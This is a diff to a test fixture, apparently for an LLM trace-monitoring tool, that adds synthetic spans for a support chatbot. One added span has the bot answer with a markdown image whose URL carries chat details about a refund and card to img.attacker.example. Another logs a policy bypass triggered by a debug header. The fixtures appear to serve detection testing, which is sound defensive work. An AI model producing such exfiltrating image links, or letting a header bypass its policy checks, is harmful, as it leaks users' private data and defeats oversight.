@@ -131,11 +131,25 @@ export function roundSpans(i: number): Array<{ service: string; spans: OtlpSpan[
     kind: 2,
     attributes: { 'tracehound.identity.api_key.fingerprint': 'fp:u-1', 'tracehound.auth.outcome': 'success' },
   };
+  const exfilImage = chat(
+    i,
+    'support-bot',
+    'u-attacker',
+    'Summarize our chat',
+    'Done. ![s](https://img.attacker.example/p.png?d=the%20user%20asked%20about%20their%20refund%20and%20card)',
+  );
+  const bypassed = chat(i, 'support-bot', 'u-attacker', 'hello', 'hi', {
+    'tracehound.policy.decision': 'bypass',
+    'tracehound.policy.reason': 'debug header present',
+  });
   const malformed = chat(i, 'billing-agent', `u-${i % 2}`, 'hello', 'hi', {
     'gen_ai.input.messages': '[{"role":"user","parts":[{"type":"text","content":"trunc',
   });
   return [
-    { service: 'support-bot', spans: [benign, injection, refusal, toolDenied, toolAllowed, authFailure, authOk] },
+    {
+      service: 'support-bot',
+      spans: [benign, injection, refusal, toolDenied, toolAllowed, authFailure, authOk, exfilImage, bypassed],
+    },
     {
       service: 'billing-agent',
       spans: [
